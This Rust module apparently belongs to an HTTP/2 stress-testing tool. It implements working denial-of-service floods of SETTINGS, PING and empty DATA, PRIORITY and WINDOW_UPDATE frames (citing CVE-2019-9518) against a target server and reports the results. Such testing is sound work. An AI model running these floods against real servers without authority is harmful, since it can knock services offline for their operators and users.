//! Frames that cost their sender nothing but require an answer or an entry in a table.

use tokio::time::Instant;

use super::{Report, Target, in_time};
use crate::{
    frames::{
        DATA, END_HEADERS, HEADER_TABLE_SIZE, HEADERS, NONE, PING, PREFACE, PRIORITY,
        WINDOW_UPDATE, call, frame, settings,
    },
    wire::Wire,
};

/// The most frames of each kind on one connection.
const FRAMES_MAX: u64 = 1_000_000;
/// The number of frames in one write.
const BURST_FRAMES: usize = 512;

/// Sends endless SETTINGS, once while reading the answers and once without reading.
pub async fn settings_flood(target: &Target, until: Instant) -> Report {
    let frame = settings(&[(HEADER_TABLE_SIZE, 4_096)]);
    flood(target, until, &frame, false)
        .await
        .and(&flood(target, until, &frame, true).await)
}

/// Sends endless PING frames in the same two ways.
pub async fn ping_flood(target: &Target, until: Instant) -> Report {
    let frame = frame(PING, NONE, 0, b"12345678");
    flood(target, until, &frame, false)
        .await
        .and(&flood(target, until, &frame, true).await)
}

/// Sends endless empty DATA (CVE-2019-9518), PRIORITY and tiny windows, on a call that never ends.
pub async fn empty_frames_flood(target: &Target, until: Instant) -> Report {
    let mut report = Report::default();
    for frame in [
        frame(DATA, NONE, 1, &[]),
        frame(PRIORITY, NONE, 3, &[0, 0, 0, 1, 16]),
        frame(WINDOW_UPDATE, NONE, 1, &[0, 0, 0, 1]),
    ] {
        report = report.and(&flood(target, until, &frame, false).await);
    }
    report
}

/// Floods one connection for a third of the remaining time.
async fn flood(target: &Target, until: Instant, frame_bytes: &[u8], reads: bool) -> Report {
    let until = Instant::now() + until.saturating_duration_since(Instant::now()) / 3;
    let mut report = Report::default();
    let wire = if reads {
        Wire::connect_unread(target.address).await
    } else {
        Wire::connect(target.address).await
    };
    let Some(mut wire) = wire else {
        return report;
    };
    let block = call(target.path, &target.token, &[]);
    let hello = [
        PREFACE,
        &settings(&[]),
        &frame(HEADERS, END_HEADERS, 1, &block),
    ];
    wire.send(&hello.concat()).await;
    let burst = frame_bytes.repeat(BURST_FRAMES);
    let mut sent = 0;
    while sent < FRAMES_MAX
        && !wire.seen().is_cut()
        && in_time(until)
        && wire.send_until(&burst, until).await
    {
        sent += BURST_FRAMES as u64;
    }
    report.note(&wire, sent);
    report
}
